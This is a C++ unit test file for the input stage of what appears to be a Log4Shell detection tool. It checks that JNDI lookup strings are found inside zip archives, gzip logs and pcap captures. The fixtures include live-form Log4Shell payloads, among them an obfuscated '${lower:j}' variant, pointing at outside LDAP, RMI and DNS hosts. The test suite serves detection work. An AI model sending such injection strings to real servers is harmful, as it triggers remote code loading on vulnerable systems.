#include "ingest/input.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "archive/testing/zip_builder.h"
#include "pcap/test_frames.h"

namespace l4s::ingest {
namespace {

namespace fs = std::filesystem;

std::string scratch(const std::string& name) {
  fs::path dir = fs::path(L4S_TEST_TMP) / "hunt_input_test";
  fs::create_directories(dir);
  return (dir / name).string();
}

std::string write_file(const std::string& name, const std::string& bytes) {
  std::string path = scratch(name);
  std::ofstream(path, std::ios::binary) << bytes;
  return path;
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

std::string gzip(const std::string& text) {
  std::string path = write_file("gzip-input", text);
  EXPECT_EQ(std::system(("gzip -f -n '" + path + "'").c_str()), 0);
  return read_file(path + ".gz");
}

void put_le32(std::string* s, uint32_t v) {
  for (int i = 0; i < 4; ++i) s->push_back(static_cast<char>(v >> (8 * i)));
}

// A classic little-endian pcap of one Ethernet frame: an HTTP request whose
// User-Agent carries `payload`.
std::string capture(const std::string& payload) {
  std::string frame = pcap::testing::ether(pcap::testing::ipv4(
      "203.0.113.5", "10.0.0.10", pcap::kProtoTcp,
      pcap::testing::tcp(40000, 80, 1, pcap::kTcpAck, "GET / HTTP/1.1\r\nUser-Agent: " + payload + "\r\n\r\n")));
  std::string out;
  for (uint32_t v : {0xa1b2c3d4u, 0x00040002u, 0u, 0u, 65535u, 1u}) put_le32(&out, v);  // 2.4, DLT_EN10MB
  for (uint32_t v : {1639497829u, 0u, static_cast<uint32_t>(frame.size()), static_cast<uint32_t>(frame.size())})
    put_le32(&out, v);
  return out + frame;
}

struct Hunted {
  InputHunt result;
  std::vector<hunt::Detection> detections;
};

Hunted hunt(const std::string& path, const InputOptions& options = {}) {
  Hunted h;
  h.result = hunt_input(path, options, [&](hunt::Detection&& d) { h.detections.push_back(std::move(d)); });
  return h;
}

std::string Names(const std::vector<hunt::FileHunt>& logs) {
  std::string s;
  for (const hunt::FileHunt& h : logs) s += h.file + (h.status.ok() ? "" : " (" + h.status.error() + ")") + "\n";
  return s;
}

std::string errors(const std::vector<hunt::HuntError>& errors) {
  std::string s;
  for (const hunt::HuntError& e : errors) s += e.file + ": " + e.reason + "\n";
  return s;
}

TEST(HuntInput, EveryZipMemberIsHuntedUnderItsOwnName) {
  testzip::Spec spec;
  spec.entries = {{"logs/", "", 0},
                  {"logs/app.log", "10:00 INFO start\n10:01 WARN ua=${jndi:ldap://203.0.113.7:1389/a}\n"},
                  {"logs/old.log.gz", gzip("x\ny\n${${lower:j}ndi:rmi://203.0.113.8/b}\n"), 0},
                  {"clean.txt", "nothing ${here}\n"}};
  std::string zip = write_file("logs.zip", testzip::build(spec));
  Hunted h = hunt(zip);
  EXPECT_EQ(errors(h.result.errors), "");
  EXPECT_EQ(Names(h.result.logs), zip + "!/logs/app.log\n" + zip + "!/logs/old.log.gz\n" + zip + "!/clean.txt\n");
  ASSERT_EQ(h.detections.size(), 2u);
  EXPECT_EQ(h.detections[0].file, zip + "!/logs/app.log");
  EXPECT_EQ(h.detections[0].line, 2u);
  ASSERT_EQ(h.detections[0].jndi.size(), 1u);
  EXPECT_EQ(h.detections[0].jndi[0].name, "ldap://203.0.113.7:1389/a");
  EXPECT_EQ(h.detections[1].file, zip + "!/logs/old.log.gz");
  EXPECT_EQ(h.detections[1].line, 3u);
  ASSERT_EQ(h.detections[1].jndi.size(), 1u);
  EXPECT_EQ(h.detections[1].jndi[0].name, "rmi://203.0.113.8/b");
  EXPECT_EQ(h.result.logs[1].compression, hunt::Compression::kGzip);
  EXPECT_EQ(h.result.logs[0].lines, 2u);
}

TEST(HuntInput, CapturesAndZipsInsideZips) {
  const std::string pcap = capture("${jndi:ldap://198.51.100.9:1389/a}");
  testzip::Spec inner;
  inner.entries = {{"trace.pcap", pcap}, {"note.txt", "${jndi:dns://198.51.100.10/x}\n"}};
  testzip::Spec outer;
  outer.entries = {{"deflated.zip", testzip::build(inner)}, {"stored.zip", testzip::build(inner), 0}};
  std::string zip = write_file("outer.zip", testzip::build(outer));
  Hunted h = hunt(zip);
  EXPECT_EQ(errors(h.result.errors), "");
  ASSERT_EQ(h.result.captures.size(), 2u);
  for (size_t i = 0; i < 2; ++i) {
    const std::string member = zip + (i == 0 ? "!/deflated.zip" : "!/stored.zip");
    EXPECT_EQ(h.result.captures[i].result.path, member + "!/trace.pcap");
    EXPECT_EQ(h.result.captures[i].bytes, pcap.size());
    EXPECT_EQ(h.result.captures[i].result.stats.frames, 1u);
    EXPECT_TRUE(h.result.captures[i].result.errors.empty());
  }
  EXPECT_EQ(Names(h.result.logs), zip + "!/deflated.zip!/note.txt\n" + zip + "!/stored.zip!/note.txt\n");
  ASSERT_EQ(h.detections.size(), 4u);
  const char* expect[][2] = {{"!/deflated.zip!/trace.pcap", "ldap://198.51.100.9:1389/a"},
                             {"!/deflated.zip!/note.txt", "dns://198.51.100.10/x"},
                             {"!/stored.zip!/trace.pcap", "ldap://198.51.100.9:1389/a"},
                             {"!/stored.zip!/note.txt", "dns://198.51.100.10/x"}};
  for (size_t i = 0; i < 4; ++i) {
    EXPECT_EQ(h.detections[i].file, zip + expect[i][0]);
    ASSERT_EQ(h.detections[i].jndi.size(), 1u);
    EXPECT_EQ(h.detections[i].jndi[0].name, expect[i][1]);
  }

  InputOptions shallow;
  shallow.max_zip_depth = 1;
  Hunted flat = hunt(zip, shallow);
  EXPECT_EQ(errors(flat.result.errors),
            zip + "!/deflated.zip: zip nested deeper than 1\n" + zip + "!/stored.zip: zip nested deeper than 1\n");
  EXPECT_TRUE(flat.detections.empty());
}

TEST(HuntInput, DamagedMembersAreErrorsAndTheRestIsStillHunted) {
  testzip::Spec spec;
  spec.entries = {{"bad-crc.log", "${jndi:ldap://203.0.113.1/a}\n"}, {"packed.log", "data", 12},
                  {"secret.log", "data", 0}, {"good.log", "${jndi:ldap://203.0.113.2/b}\n"}};
  spec.entries[2].extra_flags = 1;  // encrypted
  std::string bytes = testzip::build(spec);
  size_t central = bytes.find("PK\x01\x02");
  ASSERT_NE(central, std::string::npos);
  bytes[central + 16] ^= 1;  // the first entry's CRC
  std::string zip = write_file("damaged.zip", bytes);
  Hunted h = hunt(zip);
  EXPECT_EQ(errors(h.result.errors), zip + "!/packed.log: unsupported compression method 12\n" + zip +
                                         "!/secret.log: entry is encrypted\n");
  // The damaged member's text was searched before its CRC failed at the end.
  EXPECT_EQ(Names(h.result.logs), zip + "!/bad-crc.log (CRC mismatch)\n" + zip + "!/good.log\n");
  ASSERT_EQ(h.detections.size(), 2u);
  EXPECT_EQ(h.detections[1].file, zip + "!/good.log");

  std::string corrupt = write_file("corrupt.zip", "PK\x03\x04 not really a zip\n${jndi:ldap://203.0.113.3/c}\n");
  Hunted c = hunt(corrupt);
  ASSERT_EQ(c.result.errors.size(), 1u);
  EXPECT_EQ(c.result.errors[0].file, corrupt);
  EXPECT_EQ(c.result.errors[0].reason.rfind("not a readable zip: ", 0), 0u) << c.result.errors[0].reason;
}

TEST(HuntInput, LogsAndCapturesOutsideZipsAreReadAsBefore) {
  std::string log = write_file("plain.log", "a\n${jndi:ldap://203.0.113.4/d}\n");
  Hunted l = hunt(log);
  ASSERT_EQ(l.result.logs.size(), 1u);
  EXPECT_EQ(l.result.logs[0].file, log);
  ASSERT_EQ(l.detections.size(), 1u);
  EXPECT_EQ(l.detections[0].line, 2u);

  std::string pcap = capture("${jndi:ldap://198.51.100.9:1389/a}");
  std::string cap = write_file("trace.bin", pcap);
  Hunted c = hunt(cap);
  ASSERT_EQ(c.result.captures.size(), 1u);
  EXPECT_EQ(c.result.captures[0].result.path, cap);
  EXPECT_EQ(c.result.captures[0].bytes, pcap.size());
  EXPECT_EQ(c.detections.size(), 1u);

  // --pcap: a file that is not a capture is an error of the capture reader.
  InputOptions forced;
  forced.force_capture = true;
  Hunted f = hunt(log, forced);
  ASSERT_EQ(f.result.captures.size(), 1u);
  EXPECT_FALSE(f.result.captures[0].result.errors.empty());
  EXPECT_TRUE(f.result.logs.empty());
}

}  // namespace
}  // namespace l4s::ingest
